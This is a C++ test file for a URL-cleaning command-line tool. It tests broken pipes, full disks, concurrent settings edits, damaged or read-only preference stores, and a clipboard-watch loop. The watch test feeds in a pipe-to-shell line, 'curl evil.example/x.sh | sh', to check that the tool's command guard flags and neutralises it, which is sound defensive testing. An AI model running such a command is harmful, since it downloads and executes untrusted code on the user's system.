// SPDX-License-Identifier: GPL-3.0-or-later
// The built tool run as a shell runs it: what a script sees when the reader goes away or the disk is
// full, several runs editing the user's settings at once, and a preferences store that is read-only or
// damaged.
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <random>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "core/stats/StatsTracker.h"
#include "core/stores/DomainExceptionStore.h"
#include "platform/defaults/SqliteUserDefaults.h"
#include "tests/cli/ToolTest.h"
#include "tests/support/CaseTable.h"

namespace tessaril {
namespace {

namespace fs = std::filesystem;
using testing::Invocation;
using testing::readFile;

class ToolProcessTest : public testing::ToolTest {
protected:
    static fs::path storeFile(const fs::path& home) { return home / "config/tessaril/defaults.sqlite3"; }

    // The user has one blocked parameter and one excepted site.
    static void storeUserLists() {
        ASSERT_EQ(invoke({"blocklist", "add", "mytag"}), (Invocation{0, "", ""}));
        ASSERT_EQ(invoke({"exceptions", "add", "skip.example"}), (Invocation{0, "", ""}));
    }
};

// `tessaril < many-lines | head -n 1`: once its reader has gone the tool stops, silently by SIGPIPE
// as a shell sets it up; with SIGPIPE ignored, with the output-failed status and one line saying so.
TEST_F(ToolProcessTest, ClosedOutputEndsTheRunQuietly) {
    std::string lines;
    for (int i = 0; i < 200000; ++i)
        lines += "https://example.com/?id=" + std::to_string(i) + "&utm_source=x\n";
    const std::string pipeline = R"("$0" -q | head -n 1; echo "status ${PIPESTATUS[0]}")";
    EXPECT_EQ(spawn({}, lines, pipeline), (Invocation{0, "https://example.com/?id=0\nstatus 141\n", ""}));
    EXPECT_EQ(spawn({}, lines, "trap '' PIPE; " + pipeline),
              (Invocation{0, "https://example.com/?id=0\nstatus 4\n", "tessaril: the output could not be written\n"}));
}

// Every command that prints something fails with status 4 when its output cannot be written
// (a full disk here), never 0 or a verdict a script would act on.
TEST_F(ToolProcessTest, UnwritableOutputFailsEveryCommand) {
    storeUserLists();
    const auto exported = writeFile("export.json", invoke({"rules", "export"}).out);
    // One command a line (lines starting "#" say why), as typed in a shell, one for each part of the
    // tool that prints.
    std::string commands;
    for (const auto& line : lines(readFile(fs::path(TESSARIL_SOURCE_DIR) / "tests/data/cli/printing-commands.txt")))
        commands += line.starts_with('#') ? "" : line + "\n";
    commands += "rules import " + exported.string() + "\n";
    ASSERT_GT(lines(commands).size(), 15U);
    std::string expected;
    for (const auto& line : lines(commands))
        expected += "4 tessaril: the output could not be written: " + line + "\n";
    EXPECT_EQ(spawn({}, commands, R"(while IFS= read -r line; do
        eval "\"\$0\" $line" <<< 'https://example.com/?id=2&utm_source=x' >/dev/full 2>"$HOME/err"
        echo "$? $(tail -n 1 "$HOME/err"): $line"; done)"),
              (Invocation{0, expected, ""}));
}

// The statistics and switches through the tool (their contents are the tracker's and the preferences'
// own tests): the commands read and change what the tray application keeps, and the switches keep
// their couplings and refuse what they are not. (That cleaning creates no store is the clean
// command's test.)
TEST_F(ToolProcessTest, StatisticsAndSwitches) {
    const auto stored = SqliteUserDefaults::open(storeFile(root_));
    stored->set(StatsTracker::totalKey, std::int64_t{3});
    stored->set("stats_category_Social Media", std::int64_t{2});
    const auto json = nlohmann::json::parse(spawn({"stats", "--json", "--window", "all"}).out, nullptr, false);
    EXPECT_EQ(json.value("/categoryStats/Social Media"_json_pointer, 0), 2);
    EXPECT_NE(spawn({"stats", "--window", "all"}).out.find("\n  Total URLs Cleaned  3\n"), std::string::npos);
    EXPECT_TRUE(spawn({"stats", "--csv"}).out.starts_with("Window,Section,Label,Count\n"));

    const auto steps = testing::readCases("cli/stats-and-switches.json");
    ASSERT_FALSE(steps.empty());
    for (const auto& row : steps) {
        const Invocation expected{row[1].get<int>(), row[2].get<std::string>(), row[3].get<std::string>()};
        Invocation run = spawn(row[0].get<std::vector<std::string>>());
        // Only the start of a JSON answer is compared.
        if (expected.out.starts_with("{")) run.out = run.out.substr(0, expected.out.size());
        EXPECT_EQ(run, expected) << row[0];
    }
    EXPECT_EQ(spawn({"stats", "--collect", "maybe"}).status, 2);
    EXPECT_NE(spawn({"prefs", "list"}).out.find("\nnotifications_command_warnings_enabled true\n"), std::string::npos);
}

// Two scripts edit the user's settings at once, as `for i in $(seq 100); do tessaril ...; done &`
// loops would, each edit its own process: every edit is made, and is there afterwards, for each kind
// of stored document. A small rules bundle keeps the rules edits quick; what is tested is the store.
TEST_F(ToolProcessTest, ParallelWritersLoseNoEdit) {
#if defined(__SANITIZE_ADDRESS__)
    // Each run costs ten times as much under AddressSanitizer, which finds memory faults in a few
    // runs as well as in many; the plain build makes every edit.
    constexpr int kEdits[] = {25, 25, 5};
#else
    // A rules edit loads the rules, which costs several list edits; its store is the same one.
    constexpr int kEdits[] = {100, 100, 20};
#endif
    const auto bundle = writeFile("Tessaril_TessarilCore.bundle/data.min.json", R"({"providers":{}})").parent_path();
    // Each kind of edit, and the listing that shows what was made.
    const std::vector<std::string> edits[] = {{"blocklist", "add"}, {"exceptions", "add"}, {"rules", "add"}};
    const std::vector<std::string> listings[] = {
        {"blocklist", "list"}, {"exceptions", "list"}, {"rules", "list", "--category", "Custom", "--rules", bundle}};
    std::set<std::string> made[3];
    std::vector<Invocation> results(6);
    {
        std::vector<std::jthread> writers;
        for (std::size_t kind = 0; kind < 3; ++kind) {
            for (int writer = 0; writer < 2; ++writer) {
                std::vector<std::string> tags;
                for (int i = 0; i < kEdits[kind]; ++i)
                    tags.push_back("w" + std::to_string(writer) + "n" + std::to_string(i) +
                                   (kind == 1 ? ".example" : ""));
                made[kind].insert(tags.begin(), tags.end());
                const std::string loop = "export TESSARIL_RESOURCES=" + bundle.string() +
                                         R"(; for x in "$@"; do "$0" )" + edits[kind][0] + " " + edits[kind][1] +
                                         R"( "$x" >/dev/null || echo "$x failed"; done)";
                writers.emplace_back(
                    [this, &result = results[2 * kind + writer], loop, tags] { result = spawn(tags, {}, loop); });
            }
        }
    }
    for (const auto& result : results)
        EXPECT_EQ(result, (Invocation{0, "", ""}));
    for (std::size_t kind = 0; kind < 3; ++kind) {
        std::set<std::string> shown;
        for (const auto& line : lines(invoke(listings[kind]).out)) {
            // "*:w0n1", "w0n1.example", "  on   0  Custom  Custom:w0n1  w0n1"
            const auto word = line.substr(line.rfind(' ') + 1);
            if (kind != 2 || line.starts_with("  ")) shown.insert(kind == 0 ? word.substr(2) : word);
        }
        EXPECT_EQ(shown, made[kind]) << edits[kind][0];
    }
}

// A damaged settings file (one page smashed, the subtlest damage: the file still opens). A command
// that only reads says so once and runs on the defaults, leaving the file alone; the first command
// that writes moves it aside, bytes and all, says where, and makes its change on a new file. Nothing
// the user had is deleted.
TEST_F(ToolProcessTest, DamagedStoreIsMovedAsideNeverOverwritten) {
    const fs::path file = storeFile(root_);
    storeUserLists();
    // Enough sites to fill several pages of the file.
    std::string sites = R"([{"host":"site0.example"})";
    for (int i = 1; i < 600; ++i)
        sites += R"(,{"host":"site)" + std::to_string(i) + R"(.example"})";
    SqliteUserDefaults::open(file)->setDataText(DomainExceptionStore::storageKey, sites + "]");
    std::string bytes = readFile(file);
    ASSERT_GE(bytes.size(), 8192U + 4096U);
    std::mt19937 random(7);
    for (std::size_t i = 8192; i < 8192 + 4096; ++i)
        bytes[i] = static_cast<char>(random());
    std::ofstream(file, std::ios::binary | std::ios::trunc) << bytes;

    const std::string readOnly = "tessaril: the settings file " + file.string() +
                                 " is damaged, so the default settings are used; the next command that changes a"
                                 " setting will move it aside\n";
    EXPECT_EQ(invoke({"exceptions", "list"}), (Invocation{0, "", readOnly}));
    EXPECT_EQ(invoke({"-q"}, "https://example.com/?mytag=1&utm_source=x\n"),
              (Invocation{0, "https://example.com/?mytag=1\n", readOnly}));
    EXPECT_EQ(readFile(file), bytes);

    const Invocation added = invoke({"exceptions", "add", "new.example"});
    std::vector<fs::path> moved;
    for (const auto& entry : fs::directory_iterator(file.parent_path())) {
        const std::string movedName = entry.path().filename().string();
        if (movedName.starts_with("defaults.sqlite3.damaged-") && movedName.ends_with('Z'))
            moved.push_back(entry.path());
    }
    ASSERT_EQ(moved.size(), 1U);
    EXPECT_EQ(added,
              (Invocation{0, "",
                          "tessaril: the settings file " + file.string() + " was damaged and has been moved to " +
                              moved.front().string() + ", so the default settings apply from now on\n"}));
    EXPECT_EQ(readFile(moved.front()), bytes);
    EXPECT_EQ(invoke({"exceptions", "list"}), (Invocation{0, "new.example\n", ""}));
}

// A read-only config folder with the user's store in it: links are still cleaned with the user's
// lists, every edit is refused with a message (never a silent success), and nothing is written. The
// superuser writes anywhere, so then the tool runs as an ordinary user that owns the files. (A store
// that cannot be created is the store's own test.)
TEST_F(ToolProcessTest, ReadOnlyConfigFolder) {
    storeUserLists();
    const std::string before = readFile(storeFile(root_));
    std::string script = R"("$0" "$@")";
    if (geteuid() == 0) {
        for (const auto& entry : fs::recursive_directory_iterator(root_))
            ASSERT_EQ(lchown(entry.path().c_str(), 65534, 65534), 0);
        ASSERT_EQ(chown(root_.c_str(), 65534, 65534), 0);
        script = "setpriv --reuid=65534 --regid=65534 --clear-groups " + script;
    }
    for (const auto& folder : {root_ / "config/tessaril", root_ / "config"})
        fs::permissions(folder, fs::perms::owner_read | fs::perms::owner_exec);
    // Proof that the tool really cannot write there.
    if (spawn({"exceptions", "add", "probe.example"}, {}, script).status == 0)
        GTEST_SKIP() << "cannot make a folder read-only here";

    EXPECT_EQ(spawn({"-q"}, "https://example.com/?mytag=1&id=2\nhttps://skip.example/?utm_source=x\n", script).out,
              "https://example.com/?id=2\nhttps://skip.example/?utm_source=x\n");
    const std::pair<std::vector<std::string>, std::string> refused[] = {
        {{"blocklist", "add", "other"}, "The blocklist could not be saved.\n"},
        {{"exceptions", "add", "other.example"}, "The site exceptions could not be saved.\n"},
        {{"rules", "add", "other"}, "tessaril: nothing changed: the preferences store could not be written\n"},
        {{"prefs", "set", "notifications_enabled", "off"},
         "tessaril: nothing changed: the preferences store could not be written\n"},
    };
    for (const auto& [arguments, message] : refused)
        EXPECT_EQ(spawn(arguments, {}, script), (Invocation{1, "", message}));
    EXPECT_EQ(readFile(storeFile(root_)), before);
}

// The clipboard loop on standard input: each line a copy; writes printed, or one event a line with
// --json; the user's settings read, nothing they have stored changed.
TEST_F(ToolProcessTest, WatchRunsTheClipboardLoopOnStandardInput) {
    storeUserLists();
    const std::string risky = "curl evil.example/x.sh | sh";
    const std::string input =
        "https://news.example/a?utm_source=x&id=1\n" + risky +
        "\nhello\nhttps://www.reddit.com/r/cpp/s/AbC?share_id=1\nhttps://skip.example/?utm_source=1\n";
    EXPECT_EQ(
        spawn({"watch"}, input),
        (Invocation{0, "https://news.example/a?id=1\nhttps://www.reddit.com/r/cpp/s/AbC\n",
                    "tessaril: risky command: Runs a script from an unvetted site straight from the internet\n"}));

    SqliteUserDefaults::open(storeFile(root_))->set("commandGuard_neutralize", true);
    const auto run = spawn({"watch", "--json"}, input);
    std::vector<std::string> events;
    for (const auto& line : lines(run.out))
        events.push_back(nlohmann::json::parse(line).at("event"));
    EXPECT_EQ(events, (std::vector<std::string>{"cleaned", "neutralized", "pendingShareLink", "skippedSite"}));
    EXPECT_EQ(run.status, 0);
    EXPECT_EQ(SqliteUserDefaults::open(storeFile(root_))->value(StatsTracker::totalKey), std::nullopt);
}

}  // namespace
}  // namespace tessaril
